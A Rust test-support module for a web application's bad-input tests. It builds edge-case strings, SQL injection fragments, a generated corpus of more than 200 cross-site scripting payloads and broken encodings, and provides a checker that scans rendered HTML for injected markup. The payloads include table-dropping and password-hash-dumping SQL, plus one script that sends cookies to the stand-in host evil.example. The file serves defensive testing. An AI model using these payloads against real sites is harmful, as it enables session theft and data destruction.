//! Hostile input for the bad-input tests: the usual edge cases, SQL fragments, and a corpus of
//! cross-site scripting payloads (hand-picked classics plus their variations across tags,
//! event handlers, quoting and encodings), and the check that a page runs none of them.

use scraper::{Html, Selector};

/// Text values that are not attacks but break careless code.
pub fn edge_cases() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "a".repeat(100 * 1024),
        "성".repeat(35 * 1024),
        "\u{0}\u{1}\u{7}\u{8}\u{1b}[31mred\u{1b}[0m\r\n\t\u{7f}".to_string(),
        "\u{202e}gnp.exe\u{200b}\u{feff}".to_string(),
        "-1".to_string(),
        "0".to_string(),
        "99999999999999999999999".to_string(),
        "1e309".to_string(),
        "NaN".to_string(),
        "../../../../etc/passwd".to_string(),
        "%00".to_string(),
        "{{ 7*7 }}{% raw %}${7*7}".to_string(),
    ]
}

pub fn sql_fragments() -> Vec<String> {
    [
        "' OR '1'='1",
        "' OR 1=1 --",
        "\" OR \"\"=\"",
        "1; DROP TABLE posts; --",
        "'; DELETE FROM posts; --",
        "1' UNION SELECT password_hash, 1, 1 FROM posts --",
        "') ; UPDATE posts SET title = 'pwned'; --",
        "%' AND 1=1 AND '%'='",
        "_%",
        "\\'; PRAGMA writable_schema = 1; --",
        "1 AND (SELECT count(*) FROM sqlite_master) > 0",
        "' || (SELECT group_concat(password_hash) FROM posts) || '",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// At least 200 cross-site scripting payloads.
pub fn xss_payloads() -> Vec<String> {
    let mut payloads: Vec<String> = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script>document.location='//evil.example/?c='+document.cookie</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</option></select><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=\"alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<!--<script>alert(1)//-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "https://example.com/\"onmouseover=\"alert(1)",
        "http://example.com/<script>alert(1)</script>",
        "https://example.com/?q=<img src=x onerror=alert(1)>",
        "http://\"><svg onload=alert(1)>",
        "{{constructor.constructor('alert(1)')()}}",
        "<template><script>alert(1)</script></template>",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();

    let tags = [
        "img src=x",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "input",
        "marquee",
        "div",
        "a href=#",
        "iframe",
        "details open",
        "select autofocus",
    ];
    let handlers = [
        "onerror",
        "onload",
        "onmouseover",
        "onfocus",
        "onclick",
        "onanimationstart",
    ];
    for tag in tags {
        for handler in handlers {
            payloads.push(format!("<{tag} {handler}=alert(1)>"));
            payloads.push(format!("\"><{tag} {handler}=\"alert(document.domain)\">"));
        }
    }
    let schemes = [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
    ];
    for scheme in schemes {
        for attribute in [
            "a href",
            "iframe src",
            "form action",
            "object data",
            "embed src",
        ] {
            let (tag, attr) = attribute.split_once(' ').unwrap();
            payloads.push(format!("<{tag} {attr}=\"{scheme}\">x</{tag}>"));
        }
    }
    payloads
}

/// Every payload: edge cases, SQL fragments and the XSS corpus.
pub fn all_text_payloads() -> Vec<String> {
    let mut all = edge_cases();
    all.extend(sql_fragments());
    all.extend(xss_payloads());
    all
}

/// Raw (already percent-encoded) query or path pieces that are not valid text.
pub const BROKEN_ENCODINGS: &[&str] = &[
    "%FF%FE%FD",
    "%C0%AF",
    "%ED%A0%80",
    "%E0%A4%A",
    "%zz",
    "%",
    "%%%",
    "%00",
    "%0d%0aSet-Cookie:%20injected=1",
    "a%00b",
];

/// What a page must not contain for a payload to have got through: a script other than our
/// own files, an element that loads or runs something, an event handler, a `javascript:`-like
/// address, or inline style. Returns what was found.
pub fn injected_markup(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let mut found = Vec::new();
    let all = Selector::parse("*").unwrap();
    for element in page.select(&all) {
        let value = element.value();
        let name = value.name();
        let src = value.attr("src").unwrap_or("");
        let ours = src.starts_with("/static/");
        let dangerous_element = match name {
            "script" => !ours,
            "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "base" | "style"
            | "svg" | "math" | "video" | "audio" | "img" | "marquee" | "template" => true,
            "meta" => value.attr("http-equiv").is_some(),
            // The page's own canonical address, on the test server, is the one other link.
            "link" => value.attr("href").is_some_and(|h| {
                let canonical =
                    value.attr("rel") == Some("canonical") && h.starts_with("http://127.0.0.1:");
                !h.starts_with("/static/") && !canonical
            }),
            _ => false,
        };
        if dangerous_element {
            found.push(format!("<{name}> element"));
        }
        for (attribute, text) in value.attrs() {
            let folded: String = text
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_lowercase();
            if attribute.starts_with("on") {
                found.push(format!("{attribute} on <{name}>"));
            }
            if attribute == "style" || attribute == "srcdoc" || attribute == "formaction" {
                found.push(format!("{attribute} on <{name}>"));
            }
            let address = matches!(attribute, "href" | "src" | "action" | "data" | "content");
            if address
                && ["javascript:", "vbscript:", "data:"]
                    .iter()
                    .any(|s| folded.starts_with(s))
            {
                found.push(format!("{attribute}={text} on <{name}>"));
            }
        }
    }
    found
}

#[test]
fn the_corpus_has_at_least_two_hundred_xss_payloads() {
    let payloads = xss_payloads();
    let mut unique = payloads.clone();
    unique.sort();
    unique.dedup();
    assert!(unique.len() >= 200, "{}", unique.len());
}

#[test]
fn the_check_finds_payloads_that_would_run_and_passes_escaped_ones() {
    for payload in [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<div style=\"x\">",
    ] {
        let html = format!("<html><body><p>{payload}</p></body></html>");
        assert!(!injected_markup(&html).is_empty(), "{payload}");
    }
    let escaped = "<html><body><p>&lt;img src=x onerror=alert(1)&gt;</p><script src=\"/static/app.js\"></script></body></html>";
    assert_eq!(injected_markup(escaped), Vec::<String>::new());
}
